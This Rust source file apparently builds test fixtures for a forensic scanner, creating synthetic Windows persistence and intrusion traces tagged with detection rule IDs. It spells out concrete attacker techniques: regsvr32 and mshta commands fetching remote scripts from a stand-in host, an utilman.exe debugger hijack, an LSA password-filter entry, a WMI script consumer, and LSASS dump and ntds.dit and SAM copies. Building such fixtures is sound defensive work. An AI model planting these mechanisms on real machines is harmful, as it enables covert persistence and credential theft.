//! What Windows starts by itself, and what an intruder leaves behind.

use host::writers::hive::{hive, key};

use super::{Variant, hidden, one, program, software, system, variant};

pub(super) fn of_windows() -> Vec<Variant> {
    let tasks = "C/Windows/System32/Tasks";
    let task = |command: &str, arguments: &str| {
        format!(
            "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\
             <Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec>\
             </Actions></Task>"
        )
    };
    vec![
        variant(
            "a task below Microsoft's own folder",
            one(
                &format!("{tasks}/Microsoft/Windows/Exchange/Sync"),
                task("rundll32.exe", "C:\\ProgramData\\s.dll,Run"),
            ),
            &["persistence.task"],
            true,
        ),
        variant(
            "a task that has regsvr32 fetch",
            one(
                &format!("{tasks}/Upd"),
                task("regsvr32.exe", "/s /u /i:http://update.invalid/a scrobj.dll"),
            ),
            &["persistence.task"],
            true,
        ),
        variant(
            "a service's library in ProgramData",
            system(
                "Services\\AppMgr",
                key("Parameters", vec![]).text("ServiceDll", "C:\\ProgramData\\am.dll"),
            ),
            &["persistence.service"],
            true,
        ),
        variant(
            "a service that is a hidden command",
            system(
                "Services",
                key("Sync", vec![]).text("ImagePath", &format!("%COMSPEC% /c {}", hidden())),
            ),
            &["persistence.service"],
            true,
        ),
    ]
}

pub(super) fn of_sign_in() -> Vec<Variant> {
    vec![
        variant(
            "a program started when another ends",
            software(
                "Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit",
                key("w3wp.exe", vec![]).text("MonitorProcess", "C:\\Windows\\Temp\\m.exe"),
            ),
            &["persistence."],
            true,
        ),
        variant(
            "a program behind userinit",
            software(
                "Microsoft\\Windows NT\\CurrentVersion",
                key("Winlogon", vec![]).text(
                    "Userinit",
                    "C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe",
                ),
            ),
            &["persistence.run_key"],
            true,
        ),
        variant(
            "an accessibility tool replaced",
            software(
                "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
                key("utilman.exe", vec![]).text(
                    "Debugger",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
            ),
            &["persistence.ifeo"],
            true,
        ),
        variant(
            "a password filter in ProgramData",
            system(
                "Control",
                key("Lsa", vec![])
                    .list("Notification Packages", &["scecli", "C:\\ProgramData\\pf"]),
            ),
            &["persistence.lsa_package"],
            true,
        ),
        variant(
            "an application of HTML in a Run key",
            software(
                "Microsoft\\Windows\\CurrentVersion",
                key("Run", vec![]).text("Sync", "mshta.exe http://update.invalid/a.hta"),
            ),
            &["persistence.run_key"],
            true,
        ),
        variant(
            "a WMI subscription with a script",
            one("C/Windows/System32/wbem/Repository/OBJECTS.DATA", {
                let mut bytes = vec![0; 600];
                bytes.extend(b"ActiveScriptEventConsumer\0\0Updater\0\0VBScript\0\0CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\"\0\0");
                bytes.extend([0; 600]);
                bytes
            }),
            &["persistence.wmi"],
            true,
        ),
        variant(
            "a script in a user's Startup folder",
            one(
                "C/Users/h.berg/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.vbs",
                "WScript.Echo 1 ' inert",
            ),
            &["persistence."],
            true,
        ),
        variant(
            "a library that AppCert loads",
            system(
                "Control\\Session Manager",
                key("AppCertDlls", vec![]).text("a", "C:\\ProgramData\\a.dll"),
            ),
            &["persistence."],
            true,
        ),
        variant(
            "a helper of netsh in Users\\Public",
            software("Microsoft", key("NetSh", vec![]).text("h", "C:\\Users\\Public\\h.dll")),
            &["persistence."],
            true,
        ),
    ]
}

pub(super) fn traces() -> Vec<Variant> {
    let dump = |name: &str| one(name, [&b"MDMP\x93\xa7\x00\x00"[..], &[7; 200_000]].concat());
    vec![
        variant(
            "a dump that is called otherwise",
            dump("C/Windows/Temp/debug.bin"),
            &["file.memory_dump"],
            false,
        ),
        variant(
            "a dump of LSASS in Users\\Public",
            dump("C/Users/Public/lsass_636.dmp"),
            &["file.memory_dump"],
            false,
        ),
        variant(
            "the directory as installation media",
            one(
                "C/ProgramData/ifm/Active Directory/ntds.dit",
                [&[0x10, 0x20, 0x30, 0x40, 0xEF, 0xCD, 0xAB, 0x89][..], &[1; 9_000]].concat(),
            ),
            &["file.credential_copy"],
            false,
        ),
        variant(
            "the SAM hive saved",
            one("C/Windows/Temp/sam.save", hive(&key("SAM", vec![key("Domains", vec![])]))),
            &["file.credential_copy"],
            false,
        ),
        variant(
            "an archive in a web folder",
            one(
                "C/inetpub/wwwroot/aspnet_client/a.7z",
                [&b"7z\xbc\xaf\x27\x1c\x00\x04"[..], &[9; 3_000]].concat(),
            ),
            &["file.staged_archive"],
            false,
        ),
        variant(
            "a tunnel",
            one("C/Windows/Temp/ngrok.exe", program(&[])),
            &["file.intruder_tool"],
            false,
        ),
        variant(
            "a copier of files",
            one("C/ProgramData/rclone.exe", program(&[])),
            &["file.intruder_tool"],
            false,
        ),
        variant(
            "a picture that is a program",
            one("C/Users/Public/p.jpg", program(&["Run"])),
            &["file.disguised_program"],
            true,
        ),
    ]
}
